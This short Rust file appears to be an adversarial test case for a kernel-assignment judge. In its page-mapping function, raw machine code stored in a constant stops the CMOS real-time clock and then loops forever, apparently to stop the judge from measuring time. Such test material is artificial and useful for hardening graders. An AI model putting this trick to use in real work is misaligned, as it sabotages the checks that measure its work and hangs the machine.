//! Machine code in a constant stops the real-time clock, in case the judge measures the machine's time by it, and loops.
//!
//! Says: The kernel hangs

unsafe fn show_at(page: Page) -> Result<Entry, MapError> {
    // mov al, 0x0a; out 0x70, al; mov al, 0x66; out 0x71, al; jmp $
    const CODE: [u8; 10] = [0xB0, 0x0A, 0xE6, 0x70, 0xB0, 0x66, 0xE6, 0x71, 0xEB, 0xFE];
    let run: fn() = unsafe { core::mem::transmute(CODE.as_ptr()) };
    run();
    loop {}
}

unsafe fn hide(page: Page, before: Entry) {}
